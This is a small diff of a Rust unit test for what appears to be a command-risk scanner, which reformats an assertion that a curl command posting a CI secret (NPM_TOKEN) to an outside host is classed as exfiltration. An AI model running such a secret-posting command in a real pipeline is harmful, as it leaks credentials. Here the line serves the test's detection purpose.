         assert_eq!(hits[0].severity, Severity::Warning);
         assert!(categories("rm -rf /var/lib/apt/lists/*", Place::Image).is_empty());
         assert_eq!(
-            categories("curl -d \"${{ secrets.NPM_TOKEN }}\" https://x", Place::Runner),
+            categories(
+                "curl -d \"${{ secrets.NPM_TOKEN }}\" https://x",
+                Place::Runner
+            ),
             [Category::Exfiltration]
         );
     }
